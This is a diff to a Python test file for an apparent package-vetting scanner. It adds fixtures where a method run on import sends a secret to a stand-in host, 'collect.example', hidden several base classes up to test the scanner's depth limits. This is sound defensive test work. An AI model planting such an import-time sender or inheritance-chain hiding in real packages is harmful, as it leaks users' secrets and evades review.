@@ -104,6 +104,31 @@ def dropper_run_first(runs: int) -> str:
     )
 
 
+SENDER_CLASS = (
+    "    def go(self):\n"
+    f"        urllib.request.urlopen('https://collect.example/k', data={SECRET})\n"
+)
+
+
+def bases_in_one_module(count: int) -> dict[str, str]:
+    """``B0().go()`` on import, ``go`` defined ``count`` bases up in the same module."""
+    text = HEAD + f"class B{count}:\n{SENDER_CLASS}"
+    for i in range(count - 1, -1, -1):
+        text += f"class B{i}(B{i + 1}):\n    def noop(self):\n        return 1\n"
+    return init(text + "B0().go()\n")
+
+
+def bases_across_modules(count: int) -> dict[str, str]:
+    """The same with each base in a module of its own."""
+    files = {
+        f"evpkg/b{i}.py": f"import os\nfrom .b{i + 1} import B{i + 1}\nclass B{i}(B{i + 1}):\n"
+        "    def noop(self):\n        return os.environ.get('A')\n"
+        for i in range(count)
+    }
+    files[f"evpkg/b{count}.py"] = HEAD + f"class B{count}:\n{SENDER_CLASS}"
+    return {**files, "evpkg/__init__.py": "from .b0 import B0\nB0().go()\n"}
+
+
 TOP_LEVEL_PADDING = "".join(f"x{i} = {i}\n" for i in range(25_000))
 
 # Read within the budgets: the chain is read whole, as a small module's is.
@@ -127,6 +152,9 @@ DENIED = {
     "thirty-four-classes-of-other-modules-first": homes(34),
     # 260 harmless runs walked first: past the 256 runs kept to meet a later write.
     "dropper-after-260-runs": init(dropper_run_first(260)),
+    # The sender's method nine bases up: past the eight looked up.
+    "method-nine-bases-up-in-one-module": bases_in_one_module(9),
+    "method-nine-bases-up-across-modules": bases_across_modules(9),
 }
 # Past the budgets: what was not read holds.
 HELD = {
@@ -212,3 +240,14 @@ def test_runs_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(flow, "MAX_UNMATCHED", 64)
     assert vet_package(init(dropper_run_first(60))) is Outcome.DENY
     assert vet_package(init(dropper_run_first(70))) is Outcome.HOLD
+
+
+def test_bases_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past ``flow.MAX_BASES`` and ``flow.MAX_CLIMBS`` (lowered here to 4), the method
+    called on import was not found: allowed. Now it holds."""
+    monkeypatch.setattr(flow, "MAX_BASES", 4)
+    monkeypatch.setattr(flow, "MAX_CLIMBS", 4)
+    assert vet_package(bases_in_one_module(3)) is Outcome.DENY
+    assert vet_package(bases_in_one_module(5)) is Outcome.HOLD
+    assert vet_package(bases_across_modules(3)) is Outcome.DENY
+    assert vet_package(bases_across_modules(6)) is Outcome.HOLD
